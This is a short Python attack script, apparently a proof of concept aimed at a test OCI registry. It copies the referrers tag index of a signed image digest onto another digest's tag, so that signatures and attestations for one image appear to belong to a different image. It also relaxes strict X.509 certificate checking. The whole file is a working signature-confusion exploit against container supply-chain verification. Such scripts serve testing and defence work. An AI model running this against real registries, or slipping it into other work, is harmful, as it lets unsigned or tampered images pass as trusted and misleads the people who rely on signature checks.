"""Says that what was signed for one image was signed for another: `python3 referrers.py REPOSITORY DIGEST OTHER`."""

from __future__ import annotations

import ssl
import sys
import urllib.request

KIND = "application/vnd.oci.image.index.v1+json"

repository, signed, other = sys.argv[1:]
tls = ssl.create_default_context(cafile="/srv/trust/ca.crt")
tls.verify_flags &= ~ssl.VERIFY_X509_STRICT
place = f"https://registry.test:5000/v2/{repository}/manifests/"
asked = urllib.request.Request(place + signed.replace(":", "-"), headers={"Accept": KIND})
with urllib.request.urlopen(asked, context=tls) as found:
    data = found.read()
told = urllib.request.Request(
    place + other.replace(":", "-"), data, {"Content-Type": KIND}, method="PUT"
)
urllib.request.urlopen(told, context=tls)
